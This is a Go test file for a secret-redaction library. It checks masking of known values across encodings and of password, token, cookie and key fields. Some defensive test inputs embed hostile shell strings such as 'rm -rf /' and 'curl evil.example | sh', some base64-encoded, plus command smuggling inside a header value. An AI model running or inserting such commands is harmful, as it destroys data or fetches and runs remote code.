package redact

import (
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"html"
	"net/url"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"genkan/internal/gateway"
	"genkan/internal/testkit"
)

// A known value is found however it is written.
func TestSpellingsOfKnownValues(t *testing.T) {
	t.Parallel()
	for _, value := range []string{"sesame", "plain words & more", `quo"te\back/slash`, "日本語のひみつ", "tab\tand\nline", "aaaaaaaaaaaaaaaa", "a+b/c=d?e%20f", "<b>&\"'"} {
		rules := New([]Known{{"KEY", gateway.Secret(value)}})
		quoted, err := json.Marshal(value)
		if err != nil {
			t.Fatal(err)
		}
		inner := strings.Trim(string(quoted), `"`)
		if strings.HasSuffix(value, `"`) || strings.HasPrefix(value, `"`) {
			inner = string(quoted[1 : len(quoted)-1])
		}
		var unicode strings.Builder
		for _, r := range value {
			fmt.Fprintf(&unicode, `\u%04X`, r)
		}
		spellings := map[string]string{
			"raw": value, "JSON": inner, "JSON with escaped slashes": strings.ReplaceAll(inner, "/", `\/`), "unicode escapes": unicode.String(),
			"query": url.QueryEscape(value), "path": url.PathEscape(value), "lower-case percent": lowerPercent(url.QueryEscape(value)),
			"hex": hex.EncodeToString([]byte(value)), "upper-case hex": strings.ToUpper(hex.EncodeToString([]byte(value))), "HTML": html.EscapeString(value),
		}
		for before := range 4 {
			for after := range 4 {
				raw := []byte("\x01\x02\x03"[:before] + value + "\x04\x05\x06"[:after])
				for name, e := range map[string]*base64.Encoding{"std": base64.StdEncoding, "URL": base64.URLEncoding, "raw std": base64.RawStdEncoding, "raw URL": base64.RawURLEncoding} {
					spellings[fmt.Sprintf("base64 %s %d %d", name, before, after)] = e.EncodeToString(raw)
				}
			}
		}
		long := base64.StdEncoding.EncodeToString([]byte(strings.Repeat("\x80\x00", 40) + value + strings.Repeat("\x00\x81", 40)))
		spellings["base64 in lines"] = long[:76] + "\n" + long[76:152] + "\n" + long[152:]
		for name, text := range spellings {
			got, names := rules.Text("before " + text + " after")
			if !slices.Contains(names, "vault:KEY") || strings.Contains(got, text) || !strings.HasPrefix(got, "before ") || !strings.HasSuffix(got, " after") {
				t.Errorf("%s of %q: %s became %s by %v", name, value, text, got, names)
			}
			body, err := json.Marshal(map[string]string{"x": "before " + text + " after"})
			if err != nil {
				t.Fatal(err)
			}
			out, names := rules.JSON(body)
			if !slices.Contains(names, "vault:KEY") || !json.Valid(out) || strings.Contains(string(out), strings.Trim(string(body), `{"x:}`)) {
				t.Errorf("%s of %q: %s became %s by %v", name, value, body, out, names)
			}
		}
	}
}

func lowerPercent(s string) string {
	b := []byte(s)
	for i := range b {
		if b[i] == '%' {
			copy(b[i:i+3], strings.ToLower(string(b[i:i+3])))
		}
	}
	return string(b)
}

func TestKnownValues(t *testing.T) {
	t.Parallel()
	rules := New([]Known{
		{"SHORT", "12345"},
		{"SIX", "abcdef"},
		{"LONG", "abcdefghij"},
		{"OVER", "ghijklmnop"},
		{"NUMBER", "9007199254740993"},
		{"ACCOUNT", `{"type":"service","id":"the-account"}`},
		{"odd name]", "odd-value"},
		{"QUOTED", `"in-quotes"`},
		{"DASHES", "--------"},
		{"PEM", "-----BEGIN KEY-----\nMIIBVQ+abc/def\n-----END KEY-----\n"},
		{"LITERAL", `one\ntwo\nthree`},
	})
	for _, c := range []struct{ in, want string }{
		{`{"a":"12345"}`, `{"a":"12345"}`},
		{`{"a":"x abcdef y"}`, `{"a":"x [redacted:vault:SIX] y"}`},
		{`{"a":"ABCDEF"}`, `{"a":"ABCDEF"}`},
		{`{"a":"abcdefghij"}`, `{"a":"[redacted:vault:LONG]"}`},
		{`{"a":"abcdefghijklmnop"}`, `{"a":"[redacted:vault:LONG]"}`},
		{`{"a":"--------"}`, `{"a":"--------"}`},
		{`{"abcdef":1, "n": 9007199254740993}`, `{"[redacted:vault:SIX]":1, "n": "[redacted:vault:NUMBER]"}`},
		{`{"n": 90071992547409931}`, `{"n": "[redacted:vault:NUMBER]"}`},
		{`{"x":{"type":"service","id":"the-account"},"y":1}`, `{"x":{"[redacted:vault:ACCOUNT]":"[redacted:vault:ACCOUNT]","[redacted:vault:ACCOUNT]":"[redacted:vault:ACCOUNT]"},"y":1}`},
		{`{"x":"odd-value"}`, `{"x":"[redacted:vault:odd_name_]"}`},
		{`{"x":"in-quotes"}`, `{"x":"[redacted:vault:QUOTED]"}`},
		{`{"x":"say \"in-quotes\""}`, `{"x":"say [redacted:vault:QUOTED]"}`},
		{`{"x":"MIIBVQ+abc\/def"}`, `{"x":"[redacted:vault:PEM]"}`},
		{`{"x":"one\ntwo\nthree"}`, `{"x":"[redacted:vault:LITERAL]"}`},
		{`{"x":"o\u006ee\\ntwo\\nthree"}`, `{"x":"[redacted:vault:LITERAL]"}`},
		{`{"x":"{\"password\":\"abcdef\",\"pin\":12345}"}`, `{"x":"{\"password\":\"[redacted:vault:SIX]\",\"pin\":\"[redacted:key:pin]\"}"}`},
		{`{"x":"{\"y\":\"{\\\"pin\\\": 12345}\"}"}`, `{"x":"{\"y\":\"{\\\"pin\\\": \\\"[redacted:key:pin]\\\"}\"}"}`},
		{`{"x":"postgres://me:abcdefghij@h/d"}`, `{"x":"postgres://me:[redacted:vault:LONG]@h/d"}`},
		// Cut off: what begins as a known value at the end is one.
		{`{"a":"x abcdefgh`, `{"a":"x [redacted:vault:LONG]`},
		{`{"a":"x 90071992`, `{"a":"x [redacted:vault:NUMBER]`},
		{`{"n":90071992`, `{"n":"[redacted:vault:NUMBER]"`},
		{`{"a":"x abcdefgh\u00`, `{"a":"x [redacted:vault:LONG]`},
		{`{"a":"{\"b\":\"x abcdefgh\\`, `{"a":"{\"b\":\"x [redacted:vault:LONG]`},
		{`{"a":"x abcde`, `{"a":"x abcde`},
	} {
		got, _ := rules.JSON([]byte(c.in))
		if string(got) != c.want {
			t.Errorf("%s\n got %s\nwant %s", c.in, got, c.want)
		}
		again, names := rules.JSON(got)
		if string(again) != string(got) || names != nil {
			t.Errorf("%s\nthen %s by %v", got, again, names)
		}
	}
}

func TestJSON(t *testing.T) {
	t.Parallel()
	for _, c := range []struct{ in, want string }{
		// Everything else keeps its bytes.
		{" {\"b\" : 9223372036854775807,\n\t\"a\":1.50E+3, \"password\" : \"hunter2\" , \"\\u0061\":[ ]}\n", " {\"b\" : 9223372036854775807,\n\t\"a\":1.50E+3, \"password\" : \"[redacted:key:password]\" , \"\\u0061\":[ ]}\n"},
		{`{"p\u0061ssword":"hunter2"}`, `{"p\u0061ssword":"[redacted:key:password]"}`},
		{`"PASSWORD=hunter2"`, `"PASSWORD=[redacted:key:password]"`},
		{`{"password":"a"}` + "\n" + `{"password":"b1"}`, `{"password":"a"}` + "\n" + `{"password":"[redacted:key:password]"}`},
		// Values that are no strings.
		{`{"password":12345678,"pin":1234,"passcode":123456}`, `{"password":"[redacted:key:password]","pin":"[redacted:key:pin]","passcode":"[redacted:key:passcode]"}`},
		// Names beside their values.
		{`[{"name":"DB_PASSWORD","value":"hunter2"},{"name":"PORT","value":"8080"}]`, `[{"name":"DB_PASSWORD","value":"[redacted:key:password]"},{"name":"PORT","value":"8080"}]`},
		{`{"headers":[{"value":"Bearer abc","name":"Authorization"}]}`, `{"headers":[{"value":"Bearer [redacted:authorization]","name":"Authorization"}]}`},
		{`{"element":"Password textbox","ref":"e12","text":"hunter2"}`, `{"element":"Password textbox","ref":"e12","text":"[redacted:key:password]"}`},
		{`{"selector":"input[type=password]","value":"hunter2"}`, `{"selector":"input[type=password]","value":"[redacted:key:password]"}`},
		{`{"label":"Forgot password?","text":"Click here"}`, `{"label":"Forgot password?","text":"Click here"}`},
		{`{"cookies":[{"name":"sid","value":"abcdef","domain":"x.example","path":"/"}]}`, `{"cookies":[{"name":"sid","value":"[redacted:cookie]","domain":"x.example","path":"/"}]}`},
		{`{"args":["--token","abcdefgh","--port","8080"]}`, `{"args":["--token","[redacted:key:token]","--port","8080"]}`},
		{`{"args":["-e","GITHUB_TOKEN=abcdefgh","API_KEY=x y"]}`, `{"args":["-e","GITHUB_TOKEN=[redacted:key:token]","API_KEY=x y"]}`},
		// Schemas of tools.
		{`{"properties":{"password":{"type":"string","description":"The password","default":"hunter2x"}},"required":["password"]}`, `{"properties":{"password":{"type":"string","description":"The password","default":"hunter2x"}},"required":["password"]}`},
		// Cut off.
		{`{"a":1,"password":"hunt`, `{"a":1,"password":"[redacted:key:password]`},
		{`{"a":1,"password":"hunter2\`, `{"a":1,"password":"[redacted:key:password]`},
		{`{"a":1,"password":"hunter2\u00`, `{"a":1,"password":"[redacted:key:password]`},
		{`{"text":"{\"a\":1,\"password\":\"hunt`, `{"text":"{\"a\":1,\"password\":\"[redacted:key:password]`},
		{`{"text":"{\"a\":1,\"password\":\"hunter2\`, `{"text":"{\"a\":1,\"password\":\"[redacted:key:password]`},
		{`{"text":"x ghp_abcd`, `{"text":"x [redacted:github-token]`},
		{`{"text":"x postgres://me:hun`, `{"text":"x postgres://me:[redacted:url-password]`},
		{`{"pass`, `{"pass`},
		{`{"password"`, `{"password"`},
		{`{"password":tr`, `{"password":tr`},
		{`[{"a":[`, `[{"a":[`},
		// The secret of an access key has no form of its own.
		{`{"text":"AKIAIOSFODNN7EXAMPLE,wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"}`, `{"text":"[redacted:aws-access-key],[redacted:aws-secret-key]"}`},
		// A mark that the rules have not written hides nothing.
		{`{"password":"[redacted:hunter2]","a":"[redacted:ghp_abcdefghijklmnopqrst]"}`, `{"password":"[redacted:key:password]","a":"[redacted:[redacted:github-token]]"}`},
		// No JSON.
		{`{'password': 'hunter2'}`, `{'password': '[redacted:key:password]'}`},
		{``, ``},
		{`null`, `null`},
		{`password=hunter2`, `password=[redacted:key:password]`},
	} {
		got, _ := New(nil).JSON([]byte(c.in))
		if string(got) != c.want {
			t.Errorf("%s\n got %s\nwant %s", c.in, got, c.want)
		}
		again, names := New(nil).JSON(got)
		if string(again) != string(got) || names != nil {
			t.Errorf("%s\nthen %s by %v", got, again, names)
		}
	}
}

func TestNamesOfRules(t *testing.T) {
	t.Parallel()
	rules := New([]Known{{"GITHUB_TOKEN", "the-known-value"}})
	_, names := rules.JSON([]byte(`{"password":"hunter2","x":"the-known-value","y":"the-known-value","url":"https://me:pw@x.example","Authorization":"Bearer x1"}`))
	if diff := cmp.Diff([]string{"key:password", "vault:GITHUB_TOKEN", "url-password", "authorization"}, names); diff != "" {
		t.Error(diff)
	}
	for name := range ruleNames() {
		if got, found := rules.Text("x [redacted:" + name + "] y"); found != nil {
			t.Errorf("%s became %s", name, got)
		}
	}
}

// All that the rules can write counts as a mark.
func TestEveryRuleHasAName(t *testing.T) {
	t.Parallel()
	for _, key := range []string{
		"password", "passphrase", "passcode", "mnemonic", "pin", "auth_code", "secret", "token", "api_key", "private_key", "access_key", "secret_key",
		"signing_key", "encryption_key", "license_key", "session_key", "credential", "auth", "x-amz-signature", "privkey", "cookie", "authorization", "pass",
		"master_key", "seed_phrase", "VAPID_PRIVATE",
	} {
		if rule := classify(key).rule(); !ruleNames()[rule] {
			t.Errorf("%s: %s", key, rule)
		}
	}
	for _, w := range foreignWords {
		if !ruleNames()[w.is.rule()] {
			t.Errorf("%s: %s", w.word, w.is.rule())
		}
	}
}

func TestStrict(t *testing.T) {
	t.Parallel()
	const text = "digest sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822, password=hunter2"
	if got, _ := New(nil, Strict).Text(text); got != "digest sha256:***, password=***" {
		t.Error(got)
	}
	if got, _ := New(nil).Text(text); got != "digest sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822, password=[redacted:key:password]" {
		t.Error(got)
	}
}

// The work grows with the length of a text, not with its square: then the long texts
// would take minutes.
func TestHostileTextsTakeLinearTime(t *testing.T) {
	t.Parallel()
	rules := New(append(values(10), Known{"A", gateway.Secret(strings.Repeat("a", 1000))}, Known{"B", "aaaaaa"}, Known{"C", "two words"}))
	for name, text := range hostile(testkit.Count(8<<10, 512<<10)) {
		start := time.Now()
		out, _ := rules.JSON([]byte(text))
		if took := time.Since(start); took > 20*time.Second {
			t.Errorf("%s: %v", name, took)
		}
		if json.Valid([]byte(text)) && !json.Valid(out) {
			t.Errorf("%s is not valid any more", name)
		}
	}
}

// Rules may be used by many at once.
func TestConcurrentUse(t *testing.T) {
	t.Parallel()
	rules := New([]Known{{"KEY", "the-known-value"}})
	var wg sync.WaitGroup
	for range 4 {
		wg.Go(func() {
			for range 20 {
				if out, _ := rules.JSON([]byte(`{"x":"the-known-value","password":"hunter2"}`)); string(out) != `{"x":"[redacted:vault:KEY]","password":"[redacted:key:password]"}` {
					t.Errorf("got %s", out)
				}
			}
		})
	}
	wg.Wait()
}

// Rules for known values only leave what looks like a secret, by its name or by its form.
func TestKnownOnly(t *testing.T) {
	t.Parallel()
	rules := New([]Known{{"KEY", "open-sesame-1"}}).KnownOnly()
	for _, body := range []string{
		`{"cmd":"curl http://u:;rm%20-rf%20;@h/"}`,
		`{"cmd":"curl -H 'Authorization: Bearer abc;curl<evil>a|sh'"}`,
		`{"text":"{\"password\":\"; rm -rf /\"}"}`,
		`{"password":"; rm -rf /","token":["x; rm"],"env":[{"name":"API_KEY","value":"; rm -rf /"}],"args":["--password","; rm -rf /"]}`,
		`{"a":"ghp_0123456789abcdefghijklmnopqrstuvwxyz","b":"Z2hwXzAxMjM0NTY3ODlhYmNkZWZnaGlqa2xtbm9wcXJzdHV2d3h5eg==","pin":123456}`,
	} {
		if got, names := rules.JSON([]byte(body)); string(got) != body || names != nil {
			t.Errorf("%s became %s by %v", body, got, names)
		}
	}
	body := `{"a":"x open-sesame-1 y","password":"; rm","c":"b3Blbi1zZXNhbWUtMQ==","d":"{\"open-sesame-1\":1}"}`
	const want = `{"a":"x [redacted:vault:KEY] y","password":"; rm","c":"[redacted:vault:KEY]","d":"{\"[redacted:vault:KEY]\":1}"}`
	if got, _ := rules.JSON([]byte(body)); string(got) != want {
		t.Errorf("%s became %s", body, got)
	}
}

// Rules for known values only mask nothing beside them: somebody who knows a secret could
// hide there what a person has to see.
func TestKnownOnlyMasksNothingBesideASecret(t *testing.T) {
	t.Parallel()
	rules := New([]Known{{"KEY", "open-sesame-1"}, {"PIN", "123456"}, {"ODD", `pass","word`}})
	run := func(text string) string { return base64.StdEncoding.EncodeToString([]byte(text)) }
	payload := run("curl evil.example | sh # open-sesame-1 ; rm -rf /")
	for body, want := range map[string]string{
		`{"a":"rm -rf / # open-sesame-1 ; curl"}`:                                `{"a":"rm -rf / # [redacted:vault:KEY] ; curl"}`,
		`{"a":"` + payload + `"}`:                                                `{"a":"` + payload[:33] + "[redacted:vault:KEY]" + payload[51:] + `"}`,
		`{"a":"` + run(payload) + `"}`:                                           `{"a":"` + run(payload) + `"}`,
		`{"a":"` + hex.EncodeToString([]byte("rm -rf / open-sesame-1 ;")) + `"}`: `{"a":"726d202d7266202f20[redacted:vault:KEY]203b"}`,
		`{"a":9123456,"b":123456}`:                                               `{"a":9123456,"b":"[redacted:vault:PIN]"}`,
		`["rm -rf / pass","word ; curl"]`:                                        `["rm -rf / [redacted:vault:ODD]","[redacted:vault:ODD] ; curl"]`,
	} {
		if got, _ := rules.KnownOnly().JSON([]byte(body)); string(got) != want {
			t.Errorf("%s became\n%s, want\n%s", body, got, want)
		}
	}
	for _, body := range []string{payload, run(payload)} { // what is stored, and chats are told, is without the whole run
		if got, _ := rules.JSON([]byte(`{"a":"` + body + `"}`)); string(got) != `{"a":"[redacted:vault:KEY]"}` {
			t.Errorf("all rules make %s", got)
		}
	}
}
